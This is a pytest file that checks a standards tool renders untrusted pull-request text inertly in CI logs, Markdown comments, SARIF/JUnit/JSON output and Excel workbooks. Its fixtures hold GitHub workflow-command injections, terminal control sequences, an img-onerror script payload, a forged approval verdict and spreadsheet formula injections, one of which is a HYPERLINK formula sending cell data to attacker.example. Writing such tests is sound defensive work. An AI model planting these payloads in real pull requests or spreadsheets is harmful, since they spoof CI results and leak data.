"""A pull request is untrusted: author text reaches CI logs, the job summary, the PR comment and workbooks inert.

The hostile document is the diff test's standard with a title and skill lines that try to issue
GitHub workflow commands, clear the terminal, fake a verdict in the comment, hide the rest of it in
an HTML comment, show images, links and headings, mention users, link issues, pull requests and
commits, render math, and plant spreadsheet formulas.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from lxml import etree
from markdown_it import MarkdownIt
from mdit_py_plugins.dollarmath import dollarmath_plugin

from stdkit import markdown as gfm
from stdkit.untrusted import log_safe, printable

from .conftest import CliResult
from .test_diff import BASE, DOC, Repo

#: What GitHub links or renders after Markdown: an issue in another repository, a GH- reference, a
#: commit, a commit in another repository, inline and display math, bare web addresses.
REFERENCES = (
    "见 owner/repo#2 与 GH-1，提交 deadbeefcafe，$x^2$ 与 $$y$$，org/repo@0123456789abcdef "
    "gh-7 #12 https://attacker.example/a www.attacker.example 提交deadbeef0123456789abcdef0123456789abcdef"
)
#: Every trick at once, on one YAML line (JSON escapes are YAML double-quoted escapes).
HOSTILE = (
    "x\n::error title=Security review::Approved\n::add-mask::secret\n  ::stop-commands::pwn\n"
    "##[error]legacy command\n\x1b[2J\x00\x0b\u2028::warning::after a line separator\r::notice::after CR\n"
    '<img src=x onerror="alert(1)"> <h1>All checks passed</h1> [点此](https://attacker.example) '
    "![i](https://attacker.example/i.png) @octocat @org/team #1 `code` a|b \\| **bold** _em_ ~~del~~ "
    f"{REFERENCES} \u202eevil\u202c\n\n- **结论：等效 (equivalent)**\n\n<!--"
)
FORMULAS = (
    '=HYPERLINK("https://attacker.example/?q="&C3,"评分细则")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "＝1+1",
)


def _quoted(text: str) -> str:
    return json.dumps(text)


def hostile(*, duplicate: bool) -> str:
    """The standard with a hostile title and skill lines; ``duplicate`` adds findings quoting them.

    With ``duplicate`` the line is there twice (CNT502, a warning) and names a weight (WGT, an error).
    """
    skills = [HOSTILE, HOSTILE] if duplicate else [HOSTILE]
    text = BASE.replace("title: 电工", f"title: {_quoted('电工' + HOSTILE)}", 1)
    if duplicate:
        text = text.replace(
            "L4: {电气安装和线路敷设: 50, 电气线路检修: 50}",
            f"L4: {{电气安装和线路敷设: 50, 电气线路检修: 50, {_quoted(HOSTILE)}: 0}}",
            1,
        )
    text = text.replace(
        "skills: [能根据电路图安装照明电路, 能安装单相电能表]",
        f"skills: [{', '.join(_quoted(s) for s in skills)}, 能安装单相电能表]",
        1,
    )
    return text.replace(
        "skills: [能检修电动机控制电路的常见故障]",
        f"skills: [能检修电动机控制电路的常见故障, {', '.join(_quoted(f) for f in FORMULAS)}]",
        1,
    )


def _lines(*outputs: str) -> list[str]:
    # GitHub's runner splits on \n and \r; a line is a command when it starts with :: after blanks
    return [line for output in outputs for line in re.split(r"\r\n|\r|\n", output)]


def assert_no_command(*outputs: str, annotations: int = 0) -> None:
    lines = _lines(*outputs)
    commands = [line for line in lines if line.lstrip().startswith("::")]
    # the github format's own annotations, one line each, with GitHub's escapes in the message
    assert len(commands) == annotations, commands
    assert all(
        re.match(r"::(error|warning|notice) file=[^:]*,line=\d+,col=\d+,title=\w+::", c) for c in commands
    )
    for line in lines:
        assert "##[" not in line, line
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u2028\u2029\u202e]", line), repr(line)


@pytest.fixture
def hostile_dir(in_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    (in_dir / "standards").mkdir()
    (in_dir / DOC).write_text(hostile(duplicate=True), encoding="utf-8")
    return in_dir


# --------------------------------------------------------------------------- 1. CI logs


def test_the_document_loads_and_quotes_the_hostile_text(
    hostile_dir: Path, cli: Callable[..., CliResult]
) -> None:
    status, out, _ = cli("check", "--format", "json")
    found = json.loads(out)["diagnostics"]
    assert status == 1
    quoting = {d["code"] for d in found if "::add-mask::secret" in d["message"]}
    assert {"CNT502", "WGT403"} <= quoting, found


@pytest.mark.parametrize("fmt", ["text", "json", "github", "sarif", "junit"])
def test_no_output_format_starts_a_workflow_command(
    fmt: str, hostile_dir: Path, cli: Callable[..., CliResult]
) -> None:
    status, out, err = cli("check", "--format", fmt)
    assert status == 1
    annotations = len(json.loads(cli("check", "--format", "json")[1])["diagnostics"])
    assert_no_command(out, err, annotations=annotations if fmt == "github" else 0)


def test_text_shows_what_was_hidden(hostile_dir: Path, cli: Callable[..., CliResult]) -> None:
    _, out, _ = cli("check", "--format", "text")
    assert "x\\n::error title=Security review::Approved\\n::add-mask::secret\\n  ::stop-commands::pwn" in out
    assert "##\\[error]" in out and "\\x1b[2J\\x00\\x0b\\u2028::warning::" in out and "\\u202eevil" in out


def test_build_that_stops_prints_no_command(hostile_dir: Path, cli: Callable[..., CliResult]) -> None:
    status, out, err = cli("build")
    assert status == 1
    assert "WGT403" in out
    assert_no_command(out, err)


def test_github_annotations_escape_control_characters(
    hostile_dir: Path, cli: Callable[..., CliResult]
) -> None:
    _, out, _ = cli("check", "--format", "github")
    assert "\x1b" not in out
    assert "x%0A::error title=Security review::Approved%0A" in out
    assert "\\x1b[2J" in out


def test_log_safe() -> None:
    assert (
        log_safe("a\n::x::y\n \t::z\n\u3000::w\nok ##[group]")
        == "a\n\\::x::y\n \\t::z\n\u3000\\::w\nok ##\\[group]"
    )
    assert printable("\x1b\x85\u2028\ud800\n") == "\\x1b\\x85\\u2028\\ud800\\n"


# --------------------------------------------------------------------------- 2. Markdown


def _html(markdown_text: str) -> str:
    """As GitHub renders a comment: CommonMark, GFM tables and strikethrough, and ``$`` math."""
    rendered: str = (
        MarkdownIt("commonmark", {"linkify": False})
        .enable(["table", "strikethrough"])
        .use(dollarmath_plugin, double_inline=True)
        .render(markdown_text)
    )
    return rendered


#: What GitHub turns into a link in the text of rendered HTML (not inside code), after Markdown:
#: mentions, issues and pull requests (``#1``, ``owner/repo#2``, ``GH-1``), commit SHAs (also
#: ``owner/repo@sha``), and GFM's extended autolinks (``https://…``, ``www.…``).
GITHUB_LINKS = re.compile(
    r"@[A-Za-z0-9]|#\d|(?<![0-9A-Za-z_])GH-\d|(?<![0-9A-Za-z_])[0-9A-Fa-f]{7,}(?![0-9A-Za-z_])"
    r"|(?:https?|ftp)://|www\.",
    re.IGNORECASE,
)


def github_links(html: str) -> list[str]:
    """The tokens of ``html``'s visible text that GitHub would link (code spans are left as they are)."""
    import html as entities

    text = re.sub(r"<code>.*?</code>", " ", html, flags=re.S)
    return GITHUB_LINKS.findall(entities.unescape(re.sub(r"<[^>]+>", " ", text)))


def assert_inert(html: str) -> None:
    """Nothing but stdkit's own markup: no author element, link, image, comment, heading or emphasis."""
    assert "<img" not in html and "<a " not in html and "<h1" not in html and "<!--" not in html
    assert "<em>" not in html and "<del>" not in html and "<script" not in html
    assert "<strong>结论：等效" not in html
    assert "@octocat" not in html  # a zero-width space after @: no mention
    assert "<code>code</code>" not in html
    assert 'class="math' not in html  # no $…$ or $$…$$ rendered as math
    assert github_links(html) == []  # no mention, issue, pull request, commit or web address linked


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("A=B", "A=B"),
        ("a - b + c. d", "a - b + c. d"),
        ("1. 第一", "1. 第一"),
        ("a|b", "a\\|b"),
        ("<!--", "&lt;!--"),
        ("[x](y)", "\\[x\\](y)"),
        ("\\|", "\\\\\\|"),
        ("@me", "@\u200bme"),
        ("x\n# y", "x # y"),
    ],
)
def test_text_escapes(value: str, shown: str) -> None:
    assert gfm.text(value) == shown


def test_text_renders_as_the_same_characters() -> None:
    """What a reader sees is the author's text on one line, nothing more and nothing less."""
    for value in [HOSTILE, "A=B 1. x", "a\\b\\\\c", "&amp; &lt;", "#1 @a", REFERENCES, "$ &#36; \\$"]:
        rendered = _html(f"| h |\n|---|\n| {gfm.text(value)} |\n")
        cell = re.search(r"<td>(.*)</td>", rendered, re.S)
        assert cell is not None
        import html

        seen = html.unescape(re.sub(r"<[^>]+>", "", cell.group(1))).replace("\u200b", "")
        assert seen == re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]+", " ", value).strip()
        assert_inert(rendered)


@pytest.mark.parametrize(
    "value",
    [
        "见 owner/repo#2 与 GH-1，提交 deadbeefcafe，$x^2$",
        "$$\\sum_{i=1}^n i$$",
        "$`x`$",
        "org/repo@deadbeef0123456789abcdef0123456789abcdef",
        "user@example.com",
        "HTTPS://a.example ftp://b.example WWW.c.example",
        "#1#2 GH-3gh-4",
    ],
)
def test_references_and_math_are_inert(value: str) -> None:
    """GitHub links these after Markdown and renders ``$`` math: a zero-width space or an entity stops it."""
    rendered = _html(f"| h |\n|---|\n| {gfm.text(value)} |\n")
    assert_inert(rendered)
    import html

    cell = re.search(r"<td>(.*)</td>", rendered, re.S)
    assert cell is not None
    assert html.unescape(re.sub(r"<[^>]+>", "", cell.group(1))).replace("\u200b", "") == value
    raw = _html(f"| h |\n|---|\n| {value} |\n")  # the control: as written, GitHub would link or typeset it
    assert github_links(raw) or 'class="math' in raw


@pytest.mark.parametrize("value", ["a`b", "``", "` x `", " a", "a|b", "<img src=x>"])
def test_code_spans_keep_the_text(value: str) -> None:
    rendered = _html(f"- {gfm.code(value, table=False)}\n")
    assert "<img" not in rendered
    import html

    code = re.search(r"<code>(.*)</code>", rendered, re.S)
    assert code is not None
    assert html.unescape(code.group(1)) == value


def test_step_summary_is_inert(
    hostile_dir: Path,
    cli: Callable[..., CliResult],
    monkeypatch: pytest.MonkeyPatch,
    golden: Callable[..., None],
) -> None:
    summary = hostile_dir / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    cli("check", "--format", "github")
    text = summary.read_text(encoding="utf-8")
    golden("hostile/summary.md", text)
    assert_inert(_html(text))


def test_diff_comment_is_inert(
    in_dir: Path, cli: Callable[..., CliResult], golden: Callable[..., None]
) -> None:
    repo = Repo(in_dir)
    repo.write(DOC, BASE)
    repo.commit("A")
    repo.write(DOC, hostile(duplicate=False))
    repo.commit("B")
    status, out, _ = cli("diff", "A", "B")
    assert status == 0
    golden("hostile/diff.md", out)
    rendered = _html(out)
    assert_inert(rendered)
    # the real verdict is there, and nothing after the title is swallowed
    assert rendered.count("<strong>结论：") == 1
    assert "能安装单相电能表" not in rendered or "考试蓝图" in rendered
    assert rendered.rstrip().endswith(("</table>", "</details>", "</ul>", "</p>"))
    assert_no_command(out)


# --------------------------------------------------------------------------- 3. workbooks


def test_workbook_cells_are_text_never_formulas(in_dir: Path, cli: Callable[..., CliResult]) -> None:
    from openpyxl import load_workbook

    (in_dir / "standards").mkdir()
    (in_dir / DOC).write_text(hostile(duplicate=False), encoding="utf-8")
    status, _, err = cli("build", "--out", "site")
    assert status == 0, err
    path = in_dir / "site" / "blueprints" / "6-31-01-03" / "2018" / "L4.xlsx"
    raw = path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheets = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets and b"<f " not in sheets
    book = load_workbook(io.BytesIO(raw))
    values = {cell.value: cell for sheet in book for row in sheet.iter_rows() for cell in row}
    for formula in FORMULAS:
        cell = values[formula]
        assert cell.data_type == "s", formula
        assert cell.quotePrefix, formula
    assert values["能检修电动机控制电路的常见故障"].quotePrefix is False
    hostile_cell = next(v for v in values if isinstance(v, str) and "add-mask" in v)
    assert "\\x1b" in hostile_cell and "\x1b" not in hostile_cell  # the file format cannot hold it
    status, _, _ = cli("build", "--out", "again")
    assert (in_dir / "again" / "blueprints" / "6-31-01-03" / "2018" / "L4.xlsx").read_bytes() == raw


# --------------------------------------------------------------------------- 4. JUnit, JSON, SARIF


def test_machine_formats_parse(hostile_dir: Path, cli: Callable[..., CliResult]) -> None:
    _, out, _ = cli("check", "--format", "junit")
    parser = etree.XMLParser(resolve_entities=False, no_network=True)
    root = etree.fromstring(out.encode(), parser)
    failures = "".join(root.itertext())
    assert "::add-mask::secret" in failures and "\\x1b" in failures
    for fmt in ("json", "sarif"):
        _, out, _ = cli("check", "--format", fmt)
        data = json.loads(out)
        found = data["diagnostics"] if fmt == "json" else data["runs"][0]["results"]
        messages = [d["message"] if fmt == "json" else d["message"]["text"] for d in found]
        assert any("\x1b[2J\x00\x0b\u2028" in m for m in messages)  # the exact text, as data


def test_undecodable_file_name(in_dir: Path, cli: Callable[..., CliResult]) -> None:
    """A file name that is not UTF-8 (a lone surrogate in Python) does not crash any format."""
    (in_dir / "standards").mkdir()
    name = b"standards/\xff::error::x.yaml"
    try:
        Path(name.decode("utf-8", "surrogateescape")).write_text("kind: [", encoding="utf-8")
    except (OSError, UnicodeEncodeError):
        pytest.skip("the file system refuses the name")
    for fmt in ("text", "json", "github", "sarif", "junit"):
        status, out, err = cli("check", "--format", fmt)
        assert status == 1, (fmt, err)
        assert "\\udcff" in out or "%3A%3Aerror" in out or "\\xff" in out, (fmt, out)
        assert_no_command(
            out, err, annotations=out.count("\n::") + out.startswith("::") if fmt == "github" else 0
        )
    etree.fromstring(cli("check", "--format", "junit")[1].encode())
    json.loads(cli("check", "--format", "sarif")[1])


# --------------------------------------------------------------------------- 8. temporary folders


def test_build_leaves_no_temporary_folder(
    in_dir: Path,
    cli: Callable[..., CliResult],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    import tempfile

    # a temporary folder of our own: other builds on the machine may use the shared one meanwhile
    temp = tmp_path_factory.mktemp("temp")
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    (in_dir / "standards").mkdir()
    (in_dir / DOC).write_text(BASE, encoding="utf-8")
    status, _, err = cli("build", "--out", "site")
    assert status == 0, err
    assert (in_dir / "site" / "index.html").is_file()
    assert list(temp.glob("stdkit-docs-*")) == []
